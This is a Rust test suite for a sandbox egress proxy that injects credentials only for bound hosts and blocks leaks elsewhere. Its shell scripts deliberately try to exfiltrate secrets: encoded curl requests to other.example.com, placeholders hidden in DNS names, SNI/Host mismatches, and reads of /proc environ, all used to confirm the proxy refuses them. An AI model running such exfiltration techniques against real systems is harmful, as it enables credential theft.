//! Credentials end to end: the proxy holds the secrets, intercepts TLS only
//! for the hosts they are bound to, injects them there, and nowhere else.
//! A local HTTPS upstream (its own test CA) echoes what it received.

mod common;

use std::path::Path;

use common::net::{
    can_run, git_server, https_echo, make_bare_repo, Cert, DnsSpy, Names, PyServer, DNS_LOCK,
};
use common::{write_file, Sandbox, TempDir};
use serde_json::Value;

const API_SECRET: &str = "sk-test-api-3f9c1d7e5b2a4c68";
const LLM_SECRET: &str = "sk-test-llm-8a7b6c5d4e3f2a19";

/// A credentials file: `api` injected as a header for api.example.com,
/// `llm` as a placeholder (in LLM_KEY, swapped in `X-Key` only) for
/// api.example.com and git.example.com; other.example.com carries nothing.
fn credentials_file(dir: &Path) -> String {
    let path = dir.join("credentials.toml");
    write_file(
        &path,
        r#"
[[credentials]]
name = "api"
source = { env = "AIRLOCK_TEST_API_TOKEN" }
hosts = ["api.example.com"]
inject = { header = "Authorization", value = "Bearer {secret}" }

[[credentials]]
name = "llm"
source = { env = "AIRLOCK_TEST_LLM_KEY" }
hosts = ["api.example.com", "git.example.com"]
placeholder = { env = "LLM_KEY", headers = ["X-Key"] }

[[credentials]]
name = "git"
source = { env = "AIRLOCK_TEST_API_TOKEN" }
hosts = ["git.example.com"]
inject = { header = "X-Git-Token", value = "{secret}" }
"#,
        0o600,
    );
    path.display().to_string()
}

struct Setup {
    sb: Sandbox,
    names: Names,
    _tls: TempDir,
    cert: Cert,
    opts: Vec<String>,
}

fn setup(ports: &[u16]) -> Setup {
    let tls = TempDir::new("/tmp", "airlock-creds");
    let cert = Cert::generate(
        tls.path(),
        &["api.example.com", "other.example.com", "git.example.com"],
    );
    let creds = credentials_file(tls.path());
    let sb = Sandbox::new();
    std::fs::copy(&cert.ca, sb.workspace.join("test-ca.pem")).expect("copy test CA");
    let mut opts = vec![
        "--profile".to_string(),
        creds,
        "--upstream-ca".into(),
        cert.ca.display().to_string(),
        "--allow".into(),
        "api.example.com".into(),
        "--allow".into(),
        "other.example.com".into(),
        "--allow".into(),
        "git.example.com".into(),
        "--allow-cidr".into(),
        "127.0.0.0/8".into(),
    ];
    for p in ports {
        opts.extend(["--allow-port".into(), p.to_string()]);
    }
    Setup {
        sb,
        names: Names::new(),
        _tls: tls,
        cert,
        opts,
    }
}

impl Setup {
    /// Runs `script` in the sandbox with the secrets in the supervisor's
    /// environment.
    fn sh(&self, script: &str) -> common::RunOutput {
        let opts: Vec<&str> = self.opts.iter().map(String::as_str).collect();
        let mut cmd = self.sb.command_with(&opts, &["/bin/sh", "-c", script]);
        cmd.env("AIRLOCK_TEST_API_TOKEN", API_SECRET)
            .env("AIRLOCK_TEST_LLM_KEY", LLM_SECRET);
        common::run_to_end(self.names.wrap(&cmd))
    }
}

/// A TLS client run inside the sandbox: CONNECT to HOST:PORT through the
/// relay, handshake with SNI (default HOST) without verifying, and print
/// the peer certificate's issuer, or why the handshake failed.
const TLS_PEEK: &str = r#"
import socket, ssl, subprocess, sys
host, port = sys.argv[1], sys.argv[2]
sni = sys.argv[3] if len(sys.argv) > 3 else host
s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
s.sendall(("CONNECT %s:%s HTTP/1.1\r\n\r\n" % (host, port)).encode())
print("connect", s.recv(200).split(b"\r\n")[0].decode())
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
try:
    t = ctx.wrap_socket(s, server_hostname=sni)
except (ssl.SSLError, OSError) as e:
    print("handshake refused", type(e).__name__)
    sys.exit(0)
pem = ssl.DER_cert_to_PEM_cert(t.getpeercert(binary_form=True))
out = subprocess.run(["openssl", "x509", "-noout", "-issuer"], input=pem.encode(), capture_output=True)
print(host, out.stdout.decode().strip())
"#;

fn install_tls_peek(sb: &Sandbox) {
    write_file(&sb.workspace.join("tls_peek.py"), TLS_PEEK, 0o644);
}

fn json_lines(text: &str) -> Vec<Value> {
    text.lines()
        .filter(|l| l.starts_with('{'))
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect()
}

/// curl, python3 and git reach the upstream through the intercepting
/// proxy; the upstream sees the real secrets (injected header, swapped
/// placeholder); the sandbox never holds them: not in its environment,
/// /proc, any file it can read, nor the audit log.
#[test]
fn upstream_gets_the_secret_and_the_sandbox_never_does() {
    if !can_run() {
        return;
    }
    let echo_cert_dir = TempDir::new("/tmp", "airlock-echo");
    let echo_cert = Cert::generate(echo_cert_dir.path(), &["api.example.com"]);
    let record = echo_cert_dir.join("received.jsonl");
    let echo = https_echo(&echo_cert, &record);
    let repos = TempDir::new("/tmp", "airlock-repos");
    make_bare_repo(repos.path(), "repo", "secret-free content\n");
    let mut s = setup(&[echo.port]);
    // The echo server and the git server use separate test CAs.
    s.opts
        .extend(["--upstream-ca".into(), echo_cert.ca.display().to_string()]);
    let git_cert_dir = TempDir::new("/tmp", "airlock-gitcert");
    let git_cert = Cert::generate(git_cert_dir.path(), &["git.example.com"]);
    let git = git_server(repos.path(), Some(&git_cert));
    s.opts.extend([
        "--upstream-ca".into(),
        git_cert.ca.display().to_string(),
        "--allow-port".into(),
        git.port.to_string(),
    ]);
    let p = echo.port;
    let script = format!(
        "curl -sS --max-time 20 -H \"X-Key: $LLM_KEY\" 'https://api.example.com:{p}/v1/curl?token=abc'; echo\n\
         python3 -c \"import os, urllib.request as u; r = u.Request('https://api.example.com:{p}/v1/python', headers={{'x-key': os.environ['LLM_KEY']}}); print(u.urlopen(r, timeout=20).read().decode())\"\n\
         git ls-remote https://git.example.com:{g}/repo.git && echo ls-remote-ok\n\
         echo PLACEHOLDER=$LLM_KEY\n\
         env | grep -c -F -e '{API_SECRET}' -e '{LLM_SECRET}' | sed 's/^/env-hits=/'\n\
         cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c -F -e '{API_SECRET}' -e '{LLM_SECRET}' | sed 's/^/proc-hits=/'\n\
         grep -rlIF --devices=skip -e '{API_SECRET}' -e '{LLM_SECRET}' / --exclude-dir=proc 2>/dev/null | sed 's/^/file-hit=/'\n\
         grep -rlF --devices=skip -e '{API_SECRET}' -e '{LLM_SECRET}' -e 'PRIVATE KEY' \"$PWD\" /tmp \"$HOME\" /run /dev/shm 2>/dev/null | grep -v test-ca.pem | sed 's/^/file-hit=/'\n\
         ls /run/airlock | sed 's/^/run-airlock=/'\n\
         echo done",
        g = git.port
    );
    let out = s.sh(&script);
    assert!(out.stdout.contains("done"), "{out}");
    assert_eq!(
        out.stdout.matches("\"method\": \"GET\"").count(),
        2,
        "curl and python should both reach the upstream\n{out}"
    );
    let echoes = json_lines(&std::fs::read_to_string(&record).unwrap_or_default());
    assert_eq!(echoes.len(), 2, "{echoes:?}");
    for e in &echoes {
        assert_eq!(
            e["headers"]["authorization"],
            format!("Bearer {API_SECRET}"),
            "{e}"
        );
        assert_eq!(
            e["headers"]["x-key"], LLM_SECRET,
            "the placeholder was swapped: {e}"
        );
    }
    assert!(
        out.stdout.contains("ls-remote-ok"),
        "git over the intercepted host\n{out}"
    );
    let placeholder = out
        .stdout
        .lines()
        .find_map(|l| l.strip_prefix("PLACEHOLDER="))
        .unwrap_or_default();
    assert!(placeholder.starts_with("airlock-placeholder-llm-"), "{out}");
    assert!(out.stdout.contains("env-hits=0"), "{out}");
    assert!(out.stdout.contains("proc-hits=0"), "{out}");
    assert!(!out.stdout.contains("file-hit="), "{out}");
    let mut listing: Vec<&str> = out
        .stdout
        .lines()
        .filter_map(|l| l.strip_prefix("run-airlock="))
        .collect();
    listing.sort_unstable();
    assert_eq!(listing, vec!["ca-bundle.pem", "egress.sock"], "{out}");
    for (what, text) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        assert!(
            !text.contains(API_SECRET) && !text.contains(LLM_SECRET),
            "a secret reached the sandbox's {what}"
        );
    }
    let log = std::fs::read_to_string(s.sb.audit_log()).expect("audit log");
    assert!(
        !log.contains(API_SECRET) && !log.contains(LLM_SECRET),
        "a secret reached the audit log"
    );
    assert!(
        !log.contains(placeholder),
        "a placeholder reached the audit log"
    );
    let used: Vec<String> = json_lines(&log)
        .iter()
        .filter(|e| e["event"]["action"] == "credential.used")
        .map(|e| {
            e["airlock"]["credential"]["name"]
                .as_str()
                .unwrap_or("")
                .to_string()
        })
        .collect();
    assert!(
        used.contains(&"api".to_string()) && used.contains(&"llm".to_string()),
        "{used:?}"
    );
    assert!(used.contains(&"git".to_string()), "{used:?}");
}

/// A placeholder heading to a host its credential is not bound to is
/// blocked and logged, over plain HTTP and inside an intercepted tunnel.
#[test]
fn placeholder_sent_to_an_unbound_host_is_blocked() {
    if !can_run() {
        return;
    }
    let up = common::net::Upstream::start();
    let s = setup(&[up.port]);
    let script = format!(
        "curl -sS --max-time 20 -o /dev/null -w 'plain %{{http_code}}\\n' -d \"key=$LLM_KEY\" http://other.example.com:{u}/hello\n\
         curl -sS --max-time 20 -o /dev/null -w 'header %{{http_code}}\\n' -H \"X-Key: $LLM_KEY\" http://other.example.com:{u}/hello\n",
        u = up.port
    );
    let out = s.sh(&script);
    assert!(out.stdout.contains("plain 403"), "body scan\n{out}");
    assert!(out.stdout.contains("header 403"), "header scan\n{out}");
    assert!(up.requests().is_empty(), "upstream saw {:?}", up.requests());
    let log = std::fs::read_to_string(s.sb.audit_log()).expect("audit log");
    let blocked = json_lines(&log)
        .iter()
        .filter(|e| e["event"]["action"] == "credential_leak_blocked")
        .count();
    assert_eq!(blocked, 2, "{log}");
}

/// Domain fronting and the "Host header inside the tunnel" trick: the TLS
/// SNI and every request's Host must name the CONNECT host.
#[test]
fn sni_or_host_other_than_the_connect_host_is_refused() {
    if !can_run() {
        return;
    }
    let s0 = setup(&[]);
    let echo = https_echo(&s0.cert, &s0._tls.join("received.jsonl"));
    let mut s = setup(&[echo.port]);
    s.opts
        .extend(["--upstream-ca".into(), s0.cert.ca.display().to_string()]);
    install_tls_peek(&s.sb);
    let p = echo.port;
    let script = format!(
        "curl -sS --max-time 20 -o /dev/null -w 'host %{{http_code}}\\n' -H 'Host: other.example.com:{p}' https://api.example.com:{p}/x\n\
         python3 tls_peek.py api.example.com {p} other.example.com\n"
    );
    let out = s.sh(&script);
    assert!(out.stdout.contains("host 403"), "{out}");
    assert!(out.stdout.contains("connect HTTP/1.1 200"), "{out}");
    assert!(out.stdout.contains("handshake refused"), "{out}");
    let log = std::fs::read_to_string(s.sb.audit_log()).expect("audit log");
    assert!(log.contains("\"reason\":\"sni-mismatch\""), "{log}");
    assert!(log.contains("\"reason\":\"host-mismatch\""), "{log}");
}

/// Only hosts with credentials are intercepted: others keep their own
/// certificate (certificate-pinning clients keep working), intercepted ones
/// show the session CA.
#[test]
fn unintercepted_host_keeps_its_own_certificate() {
    if !can_run() {
        return;
    }
    let s0 = setup(&[]);
    let echo = https_echo(&s0.cert, &s0._tls.join("received.jsonl"));
    let mut s = setup(&[echo.port]);
    s.opts
        .extend(["--upstream-ca".into(), s0.cert.ca.display().to_string()]);
    install_tls_peek(&s.sb);
    let p = echo.port;
    let out = s.sh(&format!(
        "python3 tls_peek.py other.example.com {p}; python3 tls_peek.py api.example.com {p}"
    ));
    let line = |h: &str| {
        out.stdout
            .lines()
            .find(|l| l.starts_with(h))
            .unwrap_or_default()
            .to_string()
    };
    assert!(
        line("other.example.com").contains("airlock test CA"),
        "{out}"
    );
    assert!(
        line("api.example.com").contains("airlock session CA"),
        "{out}"
    );
}

/// The proxy verifies upstream certificates: without the upstream's CA it
/// refuses, and says why.
#[test]
fn bad_upstream_certificate_is_rejected_by_the_proxy() {
    if !can_run() {
        return;
    }
    let s0 = setup(&[]);
    let echo = https_echo(&s0.cert, &s0._tls.join("received.jsonl"));
    let mut s = setup(&[echo.port]);
    // Trust some other CA only: the echo server's chain does not verify.
    let other = TempDir::new("/tmp", "airlock-other-ca");
    let other_cert = Cert::generate(other.path(), &["api.example.com"]);
    let i = s
        .opts
        .iter()
        .position(|o| o == "--upstream-ca")
        .expect("flag");
    s.opts[i + 1] = other_cert.ca.display().to_string();
    let script = format!(
        "curl -sS --max-time 20 -o /dev/null -w 'code %{{http_code}} %{{http_connect}}\\n' https://api.example.com:{}/x; true",
        echo.port
    );
    let out = s.sh(&script);
    assert!(out.stdout.contains("code 000 502"), "{out}");
    let log = std::fs::read_to_string(s.sb.audit_log()).expect("audit log");
    assert!(
        log.contains("upstream-tls") || log.contains("TLS to api.example.com"),
        "{log}"
    );
}

/// A credential whose secret is missing stops the run before anything
/// starts, naming the credential; the source variable cannot be passed in.
#[test]
fn missing_secret_or_passing_its_variable_refuses_to_start() {
    let tls = TempDir::new("/tmp", "airlock-creds");
    let creds = credentials_file(tls.path());
    let sb = Sandbox::new();
    let mut cmd = sb.command_with(&["--profile", &creds], &["true"]);
    cmd.env_remove("AIRLOCK_TEST_API_TOKEN")
        .env_remove("AIRLOCK_TEST_LLM_KEY");
    let out = common::run_to_end(cmd);
    out.assert_code(125, "a missing secret must refuse to start");
    assert!(
        out.stderr.contains(
            "credentials: credential 'api': environment variable AIRLOCK_TEST_API_TOKEN is not set"
        ),
        "{}",
        out.stderr
    );
    let mut cmd = sb.command_with(
        &["--profile", &creds, "--env", "AIRLOCK_TEST_API_TOKEN"],
        &["true"],
    );
    cmd.env("AIRLOCK_TEST_API_TOKEN", API_SECRET)
        .env("AIRLOCK_TEST_LLM_KEY", LLM_SECRET);
    let out = common::run_to_end(cmd);
    out.assert_code(125, "the source variable must not be passed in");
    assert!(
        out.stderr.contains("the secret of credential"),
        "{}",
        out.stderr
    );
    assert!(
        !out.stderr.contains(API_SECRET),
        "the error leaked the secret"
    );
}

/// Whether `text` holds `secret` in any encoding the leak scanner decodes
/// (raw in any case, percent, base64/base64url at any alignment, hex).
fn holds(text: &str, secret: &str) -> bool {
    egress_proxy::scrub::found_decoded(
        &egress_proxy::scrub::Matcher::new([secret.as_bytes().to_vec()]),
        text.as_bytes(),
    )
}

/// `tests/fixtures/https_reflect_server.py` with a certificate for
/// api.example.com; returns the server and the file it records to.
fn reflector(s: &mut Setup) -> (PyServer, std::path::PathBuf) {
    let record = s._tls.join("reflected.jsonl");
    let server = PyServer::start(
        "https_reflect_server.py",
        &[
            "--cert".as_ref(),
            s.cert.cert.as_os_str(),
            "--key".as_ref(),
            s.cert.key.as_os_str(),
            "--record".as_ref(),
            record.as_os_str(),
        ],
    );
    s.opts.extend([
        "--upstream-ca".into(),
        s.cert.ca.display().to_string(),
        "--allow-port".into(),
        server.port.to_string(),
    ]);
    (server, record)
}

/// An upstream that reflects every request header (the injected
/// Authorization and the swapped placeholder included) in its response
/// headers and a chunked body, raw and encoded, hands the sandbox no
/// secret in any encoding; a compressed answer from a credential host is
/// refused rather than passed unscrubbed.
#[test]
fn reflected_secret_never_reaches_the_sandbox_in_any_encoding() {
    if !can_run() {
        return;
    }
    let mut s = setup(&[]);
    let (up, record) = reflector(&mut s);
    let p = up.port;
    let script = format!(
        "curl -sS --max-time 20 -D - -H \"X-Key: $LLM_KEY\" https://api.example.com:{p}/reflect; echo\n\
         curl -sS --max-time 20 --compressed -D - -H \"X-Key: $LLM_KEY\" https://api.example.com:{p}/reflect; echo\n\
         curl -sS --max-time 20 -o /dev/null -D - -H 'Accept-Encoding: gzip' https://api.example.com:{p}/gzip; echo\n\
         python3 -c \"import os, urllib.request as u; r = u.Request('https://api.example.com:{p}/py', headers={{'x-key': os.environ['LLM_KEY']}}); print(u.urlopen(r, timeout=20).read().decode())\"\n\
         echo done"
    );
    let out = s.sh(&script);
    assert!(out.stdout.contains("done"), "{out}");
    assert_eq!(
        out.stdout.matches("end-of-reflection").count(),
        3,
        "the reflected bodies should arrive whole\n{out}"
    );
    let seen: Vec<Value> = json_lines(&std::fs::read_to_string(&record).unwrap_or_default());
    assert!(
        seen.iter()
            .any(|e| e["headers"]["authorization"] == format!("Bearer {API_SECRET}")),
        "the upstream got the injected secret (so it had something to reflect): {seen:?}"
    );
    assert!(
        seen.iter()
            .filter(|e| e["path"] == "/reflect")
            .all(|e| e["headers"]["accept-encoding"] == "identity"),
        "credential hosts are asked for identity bodies: {seen:?}"
    );
    let lower = out.stdout.to_lowercase();
    assert!(
        lower.contains("x-airlock-error: compressed-response"),
        "a compressed body from a credential host is refused\n{out}"
    );
    let log = std::fs::read_to_string(s.sb.audit_log()).expect("audit log");
    for secret in [API_SECRET, LLM_SECRET] {
        assert!(
            !holds(&out.stdout, secret) && !holds(&out.stderr, secret),
            "a reflected secret reached the sandbox\n{out}"
        );
        assert!(!holds(&log, secret), "the audit log holds a secret");
    }
}

/// A placeholder is swapped only in the header its credential declares:
/// in another header, the URL or the body to its own host it is refused
/// (so an echoing upstream cannot be made to return the secret), over
/// plain HTTP too, and the attempt is logged.
#[test]
fn placeholder_outside_its_declared_header_is_refused() {
    if !can_run() {
        return;
    }
    let mut s = setup(&[]);
    let (up, record) = reflector(&mut s);
    let p = up.port;
    let url = format!("https://api.example.com:{p}");
    let script = format!(
        "curl -sS --max-time 20 -o /dev/null -D - -H \"X-Custom: $LLM_KEY\" {url}/h\n\
         curl -sS --max-time 20 -o /dev/null -D - \"{url}/q?k=$LLM_KEY\"\n\
         curl -sS --max-time 20 -o /dev/null -D - -d \"k=$LLM_KEY\" {url}/b\n\
         curl -sS --max-time 20 -o /dev/null -D - -H \"Authorization: Bearer $(printf %s \"$LLM_KEY\" | base64 -w0)\" {url}/a\n\
         curl -sS --max-time 20 -o /dev/null -D - -H \"X-Custom: $LLM_KEY\" http://api.example.com:{p}/plain\n\
         curl -sS --max-time 20 -o /dev/null -w 'declared %{{http_code}}\\n' -H \"X-Key: $LLM_KEY\" {url}/ok\n"
    );
    let out = s.sh(&script);
    let lower = out.stdout.to_lowercase();
    assert_eq!(
        lower.matches("x-airlock-deny: credential-leak").count(),
        5,
        "{out}"
    );
    assert!(out.stdout.contains("declared 200"), "{out}");
    let seen: Vec<Value> = json_lines(&std::fs::read_to_string(&record).unwrap_or_default());
    assert_eq!(seen.len(), 1, "only the declared use went out: {seen:?}");
    let events = s.sb.audit_events();
    let blocked = events
        .iter()
        .filter(|e| e["event"]["action"] == "credential_leak_blocked")
        .count();
    assert_eq!(blocked, 5, "{events:?}");
}

/// A secret the sandbox somehow learned, sent to another allowed host
/// percent-encoded (or base64, hex, mixed case) in the path, a query or a
/// header, is refused; the audit log holds neither the secret nor the
/// placeholder in any of those encodings.
#[test]
fn encoded_secret_to_another_host_is_refused_and_never_logged() {
    if !can_run() {
        return;
    }
    let up = common::net::Upstream::start();
    let s = setup(&[up.port]);
    let pct: String = API_SECRET.bytes().map(|b| format!("%{b:02X}")).collect();
    let pct_lower = pct.to_lowercase();
    let hex: String = API_SECRET.bytes().map(|b| format!("{b:02x}")).collect();
    let u = format!("http://other.example.com:{}", up.port);
    let script = format!(
        "curl -sS --max-time 20 -o /dev/null -D - '{u}/x/{pct}'\n\
         curl -sS --max-time 20 -o /dev/null -D - '{u}/x?q={pct_lower}'\n\
         curl -sS --max-time 20 -o /dev/null -D - \"{u}/b64/$(printf 'u:{API_SECRET}' | base64 -w0)\"\n\
         curl -sS --max-time 20 -o /dev/null -D - -H 'X-Trace: {hex_upper}' '{u}/h'\n\
         curl -sS --max-time 20 -o /dev/null -D - \"{u}/p/$(printf %s \"$LLM_KEY\" | base64 -w0 | tr '+/' '-_')\"\n\
         curl -sS --max-time 20 -o /dev/null -D - \"{u}/p/$(printf %s \"$LLM_KEY\" | od -An -tx1 | tr -d ' \\n')\"\n\
         echo PLACEHOLDER=$LLM_KEY\n",
        hex_upper = hex.to_uppercase()
    );
    let out = s.sh(&script);
    assert_eq!(
        out.stdout
            .to_lowercase()
            .matches("x-airlock-deny: credential-leak")
            .count(),
        6,
        "{out}"
    );
    assert!(up.requests().is_empty(), "upstream saw {:?}", up.requests());
    let placeholder = out
        .stdout
        .lines()
        .find_map(|l| l.strip_prefix("PLACEHOLDER="))
        .unwrap_or_default()
        .to_string();
    assert!(placeholder.starts_with("airlock-placeholder-llm-"), "{out}");
    let log = std::fs::read_to_string(s.sb.audit_log()).expect("audit log");
    assert!(log.contains("credential_leak_blocked"), "{log}");
    for needle in [API_SECRET, LLM_SECRET, placeholder.as_str()] {
        assert!(
            !holds(&log, needle),
            "the audit log holds {needle:?} encoded:\n{log}"
        );
    }
    for form in [pct.as_str(), pct_lower.as_str(), hex.as_str()] {
        assert!(!log.to_lowercase().contains(&form.to_lowercase()), "{log}");
    }
}

/// A host name is a way out before any connection (its DNS query leaves):
/// a placeholder spelled in it, whole or split across labels, is refused
/// over CONNECT, plain HTTP and SOCKS5 alike, even where a wildcard allows
/// the name, and is never looked up.
#[test]
fn placeholder_in_a_dns_name_is_refused_on_every_path() {
    if !can_run() {
        return;
    }
    let _lock = DNS_LOCK.lock().unwrap_or_else(|e| e.into_inner());
    let spy = DnsSpy::start();
    let mut s = setup(&[]);
    s.names = Names::with_nameserver(&spy.addr.ip().to_string());
    s.opts.extend(["--allow".into(), "*.wild.test".into()]);
    let script = "K=$(printf %s \"$LLM_KEY\" | tr 'A-Z' 'a-z')\n\
         A=$(printf %s \"$K\" | cut -c1-10); B=$(printf %s \"$K\" | cut -c11-)\n\
         for name in \"$K.wild.test\" \"$A.$B.wild.test\"; do\n\
           curl -sS --max-time 20 -o /dev/null -w 'connect %{http_code} %{http_connect}\\n' https://$name/ 2>/dev/null\n\
           curl -sS --max-time 20 -o /dev/null -w 'plain %{http_code}\\n' http://$name/\n\
           curl -sS --max-time 20 -o /dev/null --socks5-hostname 127.0.0.1:1080 http://$name/ 2>&1 | sed 's/^/socks /'\n\
         done\n\
         curl -sS --max-time 20 -o /dev/null -w 'control %{http_code}\\n' http://plain.wild.test/\n";
    let out = s.sh(script);
    assert_eq!(out.stdout.matches("connect 000 403").count(), 2, "{out}");
    assert_eq!(out.stdout.matches("plain 403").count(), 2, "{out}");
    assert_eq!(
        out.stdout.matches("socks ").count(),
        2,
        "SOCKS5 refusals (curl reports them)\n{out}"
    );
    let asked = spy.asked();
    assert!(
        asked.iter().any(|n| n == "plain.wild.test"),
        "the allowed control name was looked up: {asked:?}"
    );
    assert!(
        !asked
            .iter()
            .any(|n| n.contains("airlock") || n.contains("placeholder")),
        "a placeholder reached DNS: {asked:?}"
    );
    let socks_denied =
        s.sb.audit_events()
            .iter()
            .filter(|e| {
                e["airlock"]["protocol"] == "socks5" && e["airlock"]["reason"] == "credential-leak"
            })
            .count();
    assert_eq!(
        socks_denied,
        2,
        "SOCKS5 refusals are logged as leaks: {:?}",
        s.sb.audit_events()
            .iter()
            .filter(|e| e["airlock"]["protocol"] == "socks5")
            .collect::<Vec<_>>()
    );
}

/// Inside an intercepted tunnel, a client that sends its request, then
/// TLS close_notify and a TCP write shutdown (a half-close), still gets
/// the answer.
#[test]
fn half_closed_client_in_an_intercepted_tunnel_gets_its_answer() {
    if !can_run() {
        return;
    }
    let s0 = setup(&[]);
    let echo = https_echo(&s0.cert, &s0._tls.join("received.jsonl"));
    let mut s = setup(&[echo.port]);
    s.opts
        .extend(["--upstream-ca".into(), s0.cert.ca.display().to_string()]);
    let src =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/half_close_client.py");
    common::install_executable(&src, &s.sb.workspace.join("half_close_client.py"));
    let out = s.sh(&format!(
        "python3 half_close_client.py tls-eof {} api.example.com",
        echo.port
    ));
    assert!(
        out.stdout.contains("tls-eof b'HTTP/1.1 200"),
        "the answer came back after the half-close\n{out}"
    );
}

/// An upstream that answers without a length and closes first (the body
/// ends at its clean TLS close): the sandbox's client still gets the whole
/// answer, scrubbed, and its request completes rather than waiting on an
/// idle tunnel. (A close without close_notify is a possible truncation:
/// the client sees the transfer fail, and a held-back tail that could
/// begin a secret is never sent.)
#[test]
fn upstream_that_closes_first_ends_the_intercepted_answer() {
    if !can_run() {
        return;
    }
    let mut s = setup(&[]);
    let (up, _record) = reflector(&mut s);
    let out = s.sh(&format!(
        "curl -sS --max-time 20 https://api.example.com:{}/close; echo \"curl exit $?\"",
        up.port
    ));
    assert!(out.stdout.contains("end-of-reflection"), "{out}");
    assert!(out.stdout.contains("curl exit 0"), "{out}");
    assert!(!holds(&out.stdout, API_SECRET), "{out}");
}
